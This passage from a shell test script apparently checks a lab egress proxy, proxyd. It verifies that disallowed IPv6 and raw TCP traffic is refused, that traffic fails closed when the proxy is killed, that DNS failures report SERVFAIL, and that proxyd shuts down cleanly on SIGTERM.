tap_ok "$([ "$code" = 403 ]; echo $?)" "IPv6: other.test is refused the same way ($code)"
s3 python3 -c "
import socket, sys
s = socket.create_connection(('$H6%eth0', 22), timeout=5)
s.settimeout(3)
try:
    print(len(s.recv(100)))
except ConnectionResetError:
    print('reset')
" >"$LAB_DIR/raw6.out" 2>&1
tap_ok "$(grep -q reset "$LAB_DIR/raw6.out" &&
	[ "$(ev proto=tcp reason=blocked_range host=$H6)" -ge 1 ]; echo $?)" \
	"IPv6: raw TCP to lab's link-local address is reset (blocked_range)"

# 33-36: kill the proxy: new connections fail and nothing bypasses it.
inet_before=$(access_count)
kill -KILL "$PROXYD_PID"; wait "$PROXYD_PID" 2>/dev/null; PROXYD_PID=""
code=$(s1 curl -s --max-time 3 -o /dev/null -w '%{http_code}' --resolve allowed.test:80:198.18.1.10 http://allowed.test/)
tap_ok "$([ "$code" = 000 ]; echo $?)" "with proxyd killed, HTTP from the session fails"
s1 $CURL --max-time 3 --cacert "$LAB_CA" --resolve allowed.test:443:198.18.1.10 https://allowed.test/ >/dev/null 2>&1
tap_ok "$([ $? -ne 0 ]; echo $?)" "and HTTPS fails"
tap_ok "$([ "$(access_count)" -eq "$inet_before" ]; echo $?)" "and nothing reached inet's servers"
start_proxyd
out=$(s1 $CURL --resolve allowed.test:80:198.18.1.10 http://allowed.test/ 2>&1)
tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" "a restarted proxyd serves again"

# Upstream DNS gone: SERVFAIL, counted as a resolver error, not a denial.
kill -TERM "$(lab_pids | head -1)" 2>/dev/null	# dnsmasq, ours
out=$(dnsq api.allowed.test 1 udp)
tap_ok "$([ "$out" = SERVFAIL ] || [ "$out" = TIMEOUT ]; [ "$out" = SERVFAIL ] &&
	[ "$(ev host=api.allowed.test type=egress_denied)" -eq 0 ]; echo $?)" \
	"DNS: with the upstream server gone the answer is SERVFAIL, not a policy denial ($out)"

# 37: SIGTERM drains and exits 0; under ASan this is where leaks show.
kill -TERM "$PROXYD_PID"
wait "$PROXYD_PID"
rc=$?
PROXYD_PID=""
tap_ok "$([ $rc -eq 0 ] && ! grep -q 'Sanitizer\|runtime error' "$LAB_DIR/proxyd.out"; echo $?)" \
	"SIGTERM: proxyd drains and exits 0 with no sanitizer report (exit $rc)"

[ -n "${LAB_DEBUG:-}" ] && { sed "s/^/# ev: /" "$EVENTS"; sed "s/^/# proxyd: /" "$LAB_DIR/proxyd.out"; }
tap_done
